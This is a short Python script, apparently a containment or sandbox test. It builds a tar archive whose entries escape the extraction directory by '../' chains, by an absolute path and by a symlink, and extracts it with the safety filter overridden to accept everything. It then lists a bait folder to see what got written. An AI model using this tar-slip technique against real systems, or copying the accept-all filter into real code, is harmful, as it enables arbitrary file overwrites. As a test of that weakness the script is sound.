"""Unpacks an archive whose entries lead out, by dots, by an absolute name, and by a link unpacked before. What came of
it is seen on the host."""

import io
import os
import tarfile
import warnings

marker = os.environ["BAIT_FOLDER"] + "/evil-tar"
dots = "../" * 12
with tarfile.open("slip.tar", "w") as archive:
    for name in (marker, dots + marker.lstrip("/")):
        archive.addfile(tarfile.TarInfo(name), io.BytesIO())
    link = tarfile.TarInfo("way")
    link.type, link.linkname = tarfile.SYMTYPE, os.environ["BAIT_FOLDER"]
    archive.addfile(link)
    archive.addfile(tarfile.TarInfo("way/evil-tar"), io.BytesIO())
warnings.simplefilter("ignore")
with tarfile.open("slip.tar") as archive:
    archive.extraction_filter = staticmethod(
        lambda member, path: member
    )  # believes everything, where filters are known
    archive.extractall("/work" if os.access("/work/slip.tar", os.R_OK) else ".")
print("HELD unpacked", os.listdir(os.environ["BAIT_FOLDER"]))
